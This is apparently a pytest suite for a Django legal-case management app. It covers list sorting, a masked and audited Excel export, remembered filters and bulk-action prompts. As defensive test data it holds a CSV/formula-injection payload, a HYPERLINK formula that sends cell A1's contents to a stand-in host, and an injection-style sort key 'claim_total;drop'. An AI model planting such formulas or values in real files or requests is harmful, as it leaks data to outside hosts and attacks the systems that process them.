"""The matter list as a list: sorting (page and API), the Excel export, remembered filters, bulk questions."""

from __future__ import annotations

import datetime as dt
import io
import re
import uuid
from decimal import Decimal
from html import unescape

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from rest_framework.test import APIClient

from legalcase import exports
from legalcase.models import MATTER_ORDERINGS, AuditAction, AuditEvent, Matter, MatterScore, Role, Stage
from legalcase.services.recoveries import recovery_body_digest, recovery_record
from legalcase.views.matters import SORTABLE_COLUMNS
from tests.api_schema import api_schema
from tests.factories import make_firm, make_matter, make_party, make_user

pytestmark = pytest.mark.django_db

ROW_NUMBER = re.compile(r'<td><a href="/matters/\d+/">(FS-\d{4}-\d+)</a></td>')


def recover(user, matter, amount: str) -> None:
    received_on = dt.date(2025, 7, 1)
    recovery_record(
        user=user,
        matter_id=matter.pk,
        idempotency_key=str(uuid.uuid4()),
        amount=Decimal(amount),
        received_on=received_on,
        source="voluntary",
        body_digest=recovery_body_digest(amount=Decimal(amount), received_on=received_on, source="voluntary"),
    )


@pytest.fixture
def counsel():
    return make_user(Role.COUNSEL)


@pytest.fixture
def four(counsel):
    """Four matters whose sort keys differ, with ties on every key but the number (ties go newest first)."""
    a = make_matter(stage=Stage.LITIGATION, debtor=make_party("王五"), principal=Decimal("1000.00"),
                    overdue_since=dt.date(2024, 1, 1))
    b = make_matter(stage=Stage.INTAKE, debtor=make_party("李四"), principal=Decimal("5000.00"),
                    overdue_since=dt.date(2023, 5, 1))
    c = make_matter(stage=Stage.ENFORCEMENT, debtor=make_party("张三"), principal=Decimal("3000.00"),
                    overdue_since=dt.date(2025, 2, 1))
    d = make_matter(stage=Stage.INTAKE, debtor=make_party("张三"), principal=Decimal("3000.00"),
                    overdue_since=dt.date(2024, 1, 1))  # fmt: skip
    recover(counsel, b, "200.00")
    recover(counsel, d, "900.00")
    # Scores tie on a and c; d is not scored (last either way).
    for matter, value in ((a, "0.3000"), (b, "0.7000"), (c, "0.3000")):
        MatterScore.objects.create(matter=matter, value=Decimal(value), kind="rules")
    return [Matter.objects.select_related("debt").get(pk=m.pk) for m in (a, b, c, d)]


def sort_value(matter: Matter, key: str):
    return {
        "number": matter.number,
        "debtor_name": matter.debtor_name,
        "stage": matter.stage,
        "overdue_since": matter.debt.overdue_since,
        "claim_total": matter.debt.claim_total,
        "recovered_total": matter.recovered_total,
        "created_at": matter.created_at,
        "outstanding_total": matter.outstanding["total"],
        "limitation_expires_on": matter.limitation_expires_on,
        "score": MatterScore.objects.filter(matter=matter).values_list("value", flat=True).first(),
        "promise_due_on": matter.promise_due_on,
    }[key]


def expected(matters: list[Matter], ordering: str) -> list[str]:
    """The numbers in the order asked for, ties newest first (a stable sort over the newest-first list);
    a matter without the value (no limitation deadline) last either way."""
    key = ordering.lstrip("-")
    newest_first = sorted(matters, key=lambda m: -m.pk)
    known = [m for m in newest_first if sort_value(m, key) is not None]
    ordered = sorted(known, key=lambda m: sort_value(m, key), reverse=ordering.startswith("-"))
    return [m.number for m in ordered + [m for m in newest_first if sort_value(m, key) is None]]


def page_numbers(client, user, **params) -> list[str]:
    client.force_login(user)
    response = client.get(reverse("matter_list"), params)
    assert response.status_code == 200
    return ROW_NUMBER.findall(response.content.decode())


def api_numbers(user, **params) -> list[str]:
    client = APIClient()
    client.force_authenticate(user)
    response = client.get("/api/v1/matters/", params)
    assert response.status_code == 200, response.content
    return [row["number"] for row in response.json()["results"]]


# --- Sorting ------------------------------------------------------------------------------------


@pytest.mark.parametrize("descending", [False, True])
@pytest.mark.parametrize("key", SORTABLE_COLUMNS)
def test_each_column_of_the_page_sorts_both_ways(client, counsel, four, key, descending):
    ordering = f"-{key}" if descending else key
    want = expected(four, ordering)
    assert page_numbers(client, counsel, ordering=ordering) == want
    # The check: these orders are not all the default one (newest first).
    assert len(set(sort_value(m, key) for m in four)) > 1


@pytest.mark.parametrize("descending", [False, True])
@pytest.mark.parametrize("key", list(MATTER_ORDERINGS))
def test_each_sort_key_of_the_api_sorts_both_ways(counsel, four, key, descending):
    ordering = f"-{key}" if descending else key
    assert api_numbers(counsel, ordering=ordering) == expected(four, ordering)


def test_the_api_takes_several_keys(counsel, four):
    a, b, c, d = four
    # Stage ascending (enforcement, intake, intake, litigation), then the claim descending.
    assert api_numbers(counsel, ordering="stage,-claim_total") == [c.number, b.number, d.number, a.number]


def test_without_a_sort_the_list_stays_newest_first(client, counsel, four):
    newest_first = [m.number for m in sorted(four, key=lambda m: -m.pk)]
    assert page_numbers(client, counsel) == newest_first
    assert api_numbers(counsel) == newest_first


def test_a_header_link_sorts_ascending_then_reverses_and_keeps_the_filters(client, counsel, four):
    client.force_login(counsel)
    html = client.get(reverse("matter_list"), {"stage": "intake"}).content.decode()
    assert 'href="?stage=intake&amp;ordering=claim_total"' in html
    html = client.get(reverse("matter_list"), {"stage": "intake", "ordering": "claim_total"}).content.decode()
    assert 'aria-sort="ascending"' in html
    assert 'href="?stage=intake&amp;ordering=-claim_total" class="sort sorted-asc"' in html
    html = client.get(reverse("matter_list"), {"stage": "intake", "ordering": "-claim_total"}).content.decode()
    assert 'aria-sort="descending"' in html
    assert 'href="?stage=intake&amp;ordering=claim_total" class="sort sorted-desc"' in html


BAD_KEYS = ["debt__debtor__id_number", "id_number", "-", "--number", "number,-number", "claim_total;drop"]


@pytest.mark.parametrize("bad", BAD_KEYS)
def test_an_unknown_sort_key_is_ignored_on_the_page_and_refused_by_the_api(client, counsel, four, bad):
    newest_first = [m.number for m in sorted(four, key=lambda m: -m.pk)]
    assert page_numbers(client, counsel, ordering=bad) == newest_first

    api = APIClient()
    api.force_authenticate(counsel)
    response = api.get("/api/v1/matters/", {"ordering": bad})
    assert response.status_code == 400
    message = response.json()["ordering"][0]
    assert "number, debtor_name, stage" in message
    for matter in four:  # nothing about the matters is in the refusal
        assert matter.number not in response.content.decode()
        assert matter.debtor_name not in response.content.decode()


def test_the_schema_documents_the_sort_keys_and_the_export():
    schema = api_schema()
    parameters = {p["name"]: p for p in schema["paths"]["/api/v1/matters/"]["get"]["parameters"]}
    assert all(f"`{key}`" in parameters["ordering"]["description"] for key in MATTER_ORDERINGS)
    export = schema["paths"]["/api/v1/matters/export.xlsx"]["get"]
    assert "ordering" in {p["name"] for p in export["parameters"]}
    assert exports.XLSX_CONTENT_TYPE in export["responses"]["200"]["content"]


# --- The export ---------------------------------------------------------------------------------


def workbook_rows(response) -> list[tuple]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    return list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))


def test_the_export_holds_what_the_list_shows_masked_typed_and_in_its_order(client, counsel, four):
    client.force_login(counsel)
    response = client.get(reverse("matter_export"), {"stage": "intake", "ordering": "-claim_total"})
    rows = workbook_rows(response)
    a, b, c, d = four
    assert rows[0] == ("案件编号", "债务人", "身份证号", "手机号", "产品", "账号", "债权人", "诉请金额（元）", "已回款（元）",
                       "阶段", "承办人", "委托律所", "逾期日期", "创建日期")  # fmt: skip
    assert [row[0] for row in rows[1:]] == [b.number, d.number]  # the filter, then the sort
    row = rows[1]
    debtor = b.debt.debtor
    assert row[1] == "李四"
    assert row[2] == debtor.masked_id_number and "*" in row[2] and debtor.id_number not in str(rows)
    assert row[3] == debtor.masked_phone and debtor.phone not in str(rows)
    assert row[5] == b.debt.masked_account_number and b.debt.account_number not in str(rows)
    assert row[7] == float(b.debt.claim_total) and row[8] == 200.0
    assert row[9] == "收案"
    assert row[12] == dt.datetime(2023, 5, 1)
    assert 'filename*=utf-8\'\'%E6%A1%88%E4%BB%B6%E5%88%97%E8%A1%A8_' in response["Content-Disposition"]


def test_text_that_looks_like_a_formula_is_exported_as_text(client, counsel):
    make_matter(debtor=make_party('=HYPERLINK("http://x.example/?"&A1,"点此")'))
    client.force_login(counsel)
    response = client.get(reverse("matter_export"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet["B2"].data_type == "s"
    assert sheet["B2"].value == '\'=HYPERLINK("http://x.example/?"&A1,"点此")'


def test_each_export_is_audited_with_its_filters_and_rows(client, counsel, four):
    client.force_login(counsel)
    client.get(reverse("matter_export"), {"stage": "intake", "ordering": "number"})
    api = APIClient()
    api.force_authenticate(counsel)
    assert api.get("/api/v1/matters/export.xlsx", {"ordering": "-overdue_since"}).status_code == 200

    events = list(AuditEvent.objects.order_by("id").values_list("actor", "action", "target", "detail"))
    today = timezone.localdate().isoformat()
    assert [(actor, action, target) for actor, action, target, _ in events] == [
        (counsel.pk, AuditAction.EXPORT, "matters"),
        (counsel.pk, AuditAction.EXPORT, "matters"),
    ]
    assert events[0][3]["filters"] == {"stage": "intake", "ordering": "number"} and events[0][3]["rows"] == 2
    assert events[1][3]["filters"] == {"ordering": "-overdue_since"} and events[1][3]["rows"] == 4
    assert events[0][3]["as_of"] == events[1][3]["as_of"] == today


def test_another_firms_lawyer_exports_none_of_your_matters(client):
    ours, theirs = make_firm(), make_firm()
    mine = [make_matter(firm=ours), make_matter(firm=ours)]
    other = make_matter(firm=theirs)
    make_matter()  # nobody's
    client.force_login(make_user(Role.LAWYER, firm=theirs))
    rows = workbook_rows(client.get(reverse("matter_export")))
    assert [row[0] for row in rows[1:]] == [other.number]
    assert not {m.number for m in mine} & {row[0] for row in rows}
    api = APIClient()
    api.force_authenticate(make_user(Role.LAWYER, firm=theirs))
    rows = workbook_rows(api.get("/api/v1/matters/export.xlsx", {"firm": ours.pk}))
    assert rows[1:] == []


def test_an_export_over_the_limit_is_refused_and_not_audited(client, counsel, monkeypatch):
    monkeypatch.setattr(exports, "MATTER_EXPORT_LIMIT", 2)
    for _ in range(3):
        make_matter()
    client.force_login(counsel)
    response = client.get(reverse("matter_export"), {"ordering": "number"}, follow=True)
    assert response.redirect_chain == [(reverse("matter_list") + "?ordering=number", 302)]
    assert "符合条件的案件超过 2 个，请缩小筛选范围后再导出（每次最多 2 个）。" in unescape(response.content.decode())

    api = APIClient()
    api.force_authenticate(counsel)
    response = api.get("/api/v1/matters/export.xlsx")
    assert response.status_code == 400
    assert "超过 2 个" in response.json()["non_field_errors"][0]
    assert not AuditEvent.objects.exists()

    # At the limit it goes through.
    response = api.get("/api/v1/matters/export.xlsx", {"stage": "intake", "ordering": "number"})
    assert response.status_code == 400  # three intake matters: still over
    Matter.objects.filter(pk=Matter.objects.order_by("id").first().pk).update(stage=Stage.LITIGATION)
    assert len(workbook_rows(api.get("/api/v1/matters/export.xlsx", {"stage": "intake"}))) == 3
    assert AuditEvent.objects.count() == 1


def test_an_invalid_filter_on_the_api_export_answers_400_and_writes_nothing(counsel, four):
    api = APIClient()
    api.force_authenticate(counsel)
    for params in ({"stage": "nonsense"}, {"ordering": "secret"}, {"firm": "x"}):
        response = api.get("/api/v1/matters/export.xlsx", params)
        assert response.status_code == 400
        assert set(response.json()) == {next(iter(params))}
    assert not AuditEvent.objects.exists()


def test_the_list_offers_the_export_of_what_it_shows(client, counsel, four):
    client.force_login(counsel)
    html = client.get(reverse("matter_list"), {"stage": "intake", "ordering": "-stage"}).content.decode()
    assert f'href="{reverse("matter_export")}?stage=intake&amp;ordering=-stage"' in html
    assert "导出 Excel" in html


# --- Remembered filters -------------------------------------------------------------------------


def test_the_list_remembers_the_last_filters_and_sort_until_cleared(client, counsel, four):
    client.force_login(counsel)
    assert client.get(reverse("matter_list"), {"stage": "intake", "ordering": "-claim_total"}).status_code == 200

    response = client.get(reverse("matter_list"))
    assert response.status_code == 302
    assert response["Location"] == reverse("matter_list") + "?stage=intake&ordering=-claim_total"
    html = client.get(response["Location"]).content.decode()
    assert ROW_NUMBER.findall(html) == [four[1].number, four[3].number]
    assert f'href="{reverse("matter_list")}?clear=1">清除筛选</a>' in html

    response = client.get(reverse("matter_list"), {"clear": "1"})
    assert response.status_code == 302 and response["Location"] == reverse("matter_list")
    response = client.get(reverse("matter_list"))
    assert response.status_code == 200
    assert len(ROW_NUMBER.findall(response.content.decode())) == 4


def test_remembered_filters_belong_to_the_session_not_to_other_users(client, counsel, four):
    client.force_login(counsel)
    client.get(reverse("matter_list"), {"stage": "litigation"})
    other = make_user(Role.COUNSEL)
    client.force_login(other)  # a new session
    assert client.get(reverse("matter_list")).status_code == 200


def test_an_invalid_remembered_filter_is_not_remembered(client, counsel, four):
    client.force_login(counsel)
    client.get(reverse("matter_list"), {"stage": "nonsense", "ordering": "secret"})
    assert client.get(reverse("matter_list")).status_code == 200


# --- Bulk confirmations -------------------------------------------------------------------------


def test_the_bulk_form_carries_questions_naming_the_action_and_the_count(client, counsel, four):
    client.force_login(counsel)
    html = unescape(client.get(reverse("matter_list"), {"stage": "intake"}).content.decode())
    assert "确定执行该批量操作吗" not in html
    assert 'data-confirm-move_stage="确定将{matters}转入「{stage}」阶段吗？"' in html
    assert 'data-confirm-assign_firm="确定将{matters}委托给「{firm}」吗？"' in html
    assert 'data-confirm-selected="选中的 {n} 个案件"' in html
    assert 'data-confirm-all="筛选出的全部 2 个案件"' in html
    assert 'data-confirm-close="确定将{matters}结案（结案原因：{reason}）吗？"' in html


def test_a_bulk_question_over_the_job_limit_says_how_many_the_job_takes(client, counsel, four, monkeypatch):
    monkeypatch.setattr("legalcase.views.matters.BULK_LIMIT", 3)
    client.force_login(counsel)
    html = unescape(client.get(reverse("matter_list"), {"ordering": "number"}).content.decode())
    assert 'data-confirm-all="筛选出的最新 3 个案件"' in html


def test_starting_a_batch_asks_naming_the_template_field_and_the_count(client, counsel):
    matters = [make_matter(), make_matter()]
    client.force_login(counsel)
    response = client.post(
        reverse("matter_bulk"), {"action": "batch_filings", "scope": "selected", "matters": [m.pk for m in matters]}
    )
    assert response["Location"] == reverse("batch_new")
    html = unescape(
        client.post(
            reverse("batch_new"), {"template": "complaint_credit_card", "procedure": "simplified", "step": "check"}
        ).content.decode()
    )
    # fasu.js puts the chosen template's name in place of {template}.
    assert 'value="start" class="btn primary" data-confirm-submit="确定为选中的 2 个案件生成《{template}》吗？"' in html
